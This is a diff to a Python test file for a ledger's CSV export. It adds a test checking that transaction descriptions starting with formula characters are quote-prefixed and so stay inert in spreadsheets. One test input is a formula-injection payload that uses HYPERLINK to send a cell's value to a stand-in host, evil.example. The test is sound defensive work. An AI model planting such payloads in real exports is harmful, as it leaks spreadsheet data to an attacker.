@@ -117,7 +117,7 @@ def test_csv_export(session):
     only_purchases = balance_history.export_csv(session, account.id, sources=["purchase"])
     assert only_purchases.count("\n") == 2 and "pi_0" in only_purchases
     empty = balance_history.export_csv(session, account.id, date_from=date(2027, 1, 1))
-    assert empty == "Id,Description,Created Time,Amount USD\n"
+    assert empty == "Id,Description,Created Time,Amount USD\r\n"
 
 
 def test_date_range_is_in_days_of_the_account_timezone(session):
@@ -134,3 +134,24 @@ def test_date_range_is_in_days_of_the_account_timezone(session):
         session, account.id, date_from=date(2026, 3, 2), date_to=date(2026, 3, 2), timezone="Asia/Tokyo"
     )
     assert len(exported.strip().splitlines()) == 1 + 24
+
+
+def test_csv_export_neutralizes_formulas(session):
+    """A description from the operator's product is written as text a spreadsheet never runs."""
+    account = make_account(session)
+    _credit(session, account, 10**6, "grant", "Free Trial Credits", f"{account.id}-trial", START)
+    descriptions = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok"]
+    for n, description in enumerate(descriptions):
+        ledger.debit(
+            session,
+            account_id=account.id,
+            amount_cents=150,
+            description=description,
+            idempotency_key=f"{account.id}-f{n}",
+            now=START + timedelta(minutes=n + 1),
+        )
+    session.commit()
+    rows = list(csv.reader(io.StringIO(balance_history.export_csv(session, account.id), newline="")))
+    exported = [row[1] for row in reversed(rows[1:-1])]
+    assert exported == ["'" + text for text in descriptions[:-1]] + ["ok"]
+    assert {row[3] for row in rows[1:-1]} == {"-1.50"}
